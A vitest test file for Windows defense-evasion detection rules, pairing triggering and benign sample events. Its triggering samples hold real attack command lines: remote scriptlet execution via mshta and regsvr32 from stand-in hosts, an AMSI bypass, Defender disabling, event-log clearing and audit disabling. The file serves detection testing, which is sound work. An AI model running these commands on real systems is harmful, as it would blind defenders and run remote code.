import { describe } from 'vitest';
import { testRuleCases } from '../../testing/rule-cases.ts';
import {
  EXPLORER,
  POWERSHELL,
  proc,
  registry,
  script,
  started,
  system,
} from '../../testing/rule-test-events.ts';
import { DEFENSE_EVASION_RULES } from './defense-evasion-rules.ts';

const SERVICES = () => proc('C:\\Windows\\System32\\services.exe');

describe('defense evasion rules', () => {
  testRuleCases(DEFENSE_EVASION_RULES, [
    {
      rule: 'mshta-script-or-url',
      fires: system(
        'mshta.exe',
        "mshta.exe javascript:a=(GetObject('script:https://x.example/m.sct')).Exec();close();",
      ),
      quiet: system('mshta.exe', 'mshta.exe'),
    },
    {
      rule: 'regsvr32-scriptlet',
      fires: system(
        'regsvr32.exe',
        'regsvr32.exe /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll',
      ),
      quiet: system('regsvr32.exe', 'regsvr32.exe /s C:\\Windows\\System32\\msxml3.dll'),
    },
    {
      rule: 'regsvr32-user-dll',
      fires: system('regsvr32.exe', 'regsvr32.exe /s C:\\Users\\Public\\payload.dll'),
      quiet: system('regsvr32.exe', 'regsvr32.exe /s "C:\\Program Files\\App\\app.dll"'),
    },
    {
      rule: 'rundll32-unusual',
      fires: system('rundll32.exe', 'rundll32.exe C:\\ProgramData\\update.dll,Start'),
      quiet: system(
        'rundll32.exe',
        'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL',
      ),
    },
    {
      rule: 'control-panel-item',
      fires: system(
        'control.exe',
        '"C:\\windows\\system32\\control.exe" C:\\ProgramData\\calc.cpl',
      ),
      quiet: system('control.exe', 'control.exe C:\\Windows\\System32\\timedate.cpl'),
    },
    {
      rule: 'compiled-html-help',
      fires: started(
        'C:\\Windows\\hh.exe',
        '"C:\\windows\\hh.exe" C:\\ProgramData\\T1218.001.chm',
        POWERSHELL(),
      ),
      quiet: started(
        'C:\\Windows\\hh.exe',
        'hh.exe C:\\Windows\\Help\\mui\\0409\\mmc.CHM',
        EXPLORER(),
      ),
    },
    {
      rule: 'cmstp-inf',
      fires: system('cmstp.exe', 'cmstp.exe /s C:\\ProgramData\\T1218.003_uacbypass.inf /au'),
      quiet: system('cmstp.exe', 'cmstp.exe /?'),
    },
    {
      rule: 'installutil-proxy',
      fires: started(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe',
        'InstallUtil.exe /logfile= /LogToConsole=false /u c:\\ProgramData\\GruntHTTP.dll',
      ),
      quiet: started(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe',
        'InstallUtil.exe "C:\\Program Files\\Vendor\\service.exe"',
      ),
    },
    {
      rule: 'regsvcs-regasm-proxy',
      fires: started(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe',
        'RegAsm.exe /U C:\\Users\\ann\\AppData\\Local\\Temp\\x.dll',
      ),
      quiet: started(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe',
        'RegAsm.exe "C:\\Program Files\\Vendor\\addin.dll" /codebase',
      ),
    },
    {
      rule: 'msbuild-inline-task',
      fires: started(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe',
        'MSBuild.exe C:\\Users\\Public\\task.xml',
      ),
      quiet: started(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe',
        'MSBuild.exe D:\\src\\app\\app.csproj',
      ),
    },
    {
      rule: 'certutil-decode',
      fires: system('certutil.exe', 'certutil -decode C:\\Temp\\a.b64 C:\\Temp\\a.exe'),
      quiet: system('certutil.exe', 'certutil -store my'),
    },
    {
      rule: 'password-archive-extraction',
      fires: started(
        'C:\\Tools\\7z.exe',
        '"C:\\Tools\\7z.exe" e -paptsimulator "C:\\Tools\\enc-toolset.7z" -aoa -o"C:\\TMP"',
      ),
      quiet: started('C:\\Tools\\7z.exe', '"C:\\Tools\\7z.exe" l C:\\Tools\\bundle.7z'),
    },
    {
      rule: 'event-log-cleared',
      fires: system('wevtutil.exe', 'wevtutil cl Security'),
      quiet: system('wevtutil.exe', 'wevtutil qe Security /c:5'),
    },
    {
      rule: 'audit-policy-disabled',
      fires: system('auditpol.exe', 'auditpol.exe /set /category:"Account Logon" /success:disable'),
      quiet: system('auditpol.exe', 'auditpol.exe /get /category:*'),
    },
    {
      rule: 'event-log-service-disabled',
      fires: registry(
        'HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start',
        'DWORD (0x00000004)',
        SERVICES(),
      ),
      quiet: registry(
        'HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start',
        'DWORD (0x00000002)',
        SERVICES(),
      ),
    },
    {
      rule: 'minint-key-created',
      fires: registry(
        'HKLM\\System\\CurrentControlSet\\Control\\MiniNt',
        undefined,
        POWERSHELL(),
        'Registry Key Create',
      ),
      quiet: registry(
        'HKLM\\System\\CurrentControlSet\\Control\\MiniNtSetup',
        undefined,
        POWERSHELL(),
        'Registry Key Create',
      ),
    },
    {
      rule: 'command-line-auditing-disabled',
      fires: system(
        'reg.exe',
        'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit /t' +
          ' REG_DWORD /v ProcessCreationIncludeCmdLine_Enabled /d 0 /f',
      ),
      quiet: system(
        'reg.exe',
        'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit /t' +
          ' REG_DWORD /v ProcessCreationIncludeCmdLine_Enabled /d 1 /f',
      ),
    },
    {
      rule: 'firewall-modified',
      fires: system(
        'netsh.exe',
        'netsh  advfirewall firewall add rule name="atomic testing" action=allow dir=in' +
          ' protocol=TCP localport=450',
      ),
      quiet: system('netsh.exe', 'netsh advfirewall firewall show rule name=all'),
    },
    {
      rule: 'defender-tampering',
      fires: script('Set-MpPreference -DisableRealtimeMonitoring $true'),
      quiet: script('Get-MpPreference | Select-Object DisableRealtimeMonitoring'),
    },
    {
      rule: 'amsi-bypass',
      fires: script(
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFaile" +
          "d','NonPublic,Static').SetValue($null,$true)",
      ),
      quiet: script('Get-Service WinDefend'),
    },
    {
      rule: 'masquerading-system-name',
      fires: started('C:\\Users\\Public\\svchost.exe', 'svchost.exe -k netsvcs', EXPLORER()),
      quiet: system('svchost.exe', 'svchost.exe -k netsvcs', SERVICES()),
    },
    {
      rule: 'registry-edit-tool',
      fires: system('reg.exe', 'reg add HKCU\\Software\\x /v y /d 1 /f'),
      quiet: system('reg.exe', 'reg query HKCU\\Software\\x'),
    },
    {
      rule: 'registry-edit-script',
      fires: script("Set-ItemProperty -Path 'HKLM:\\SYSTEM\\x' -Name y -Value 1"),
      quiet: script("Set-ItemProperty -Path 'C:\\Temp\\a.txt' -Name IsReadOnly -Value $true"),
    },
    {
      rule: 'rdp-enabled',
      fires: registry(
        'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections',
        'DWORD (0x00000000)',
      ),
      quiet: registry(
        'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections',
        'DWORD (0x00000001)',
      ),
    },
    {
      rule: 'hidden-file-attribute',
      fires: system('attrib.exe', 'attrib +h +s C:\\Users\\Public\\u.exe'),
      quiet: system('attrib.exe', 'attrib -r C:\\Users\\Public\\notes.txt'),
    },
  ]);
});
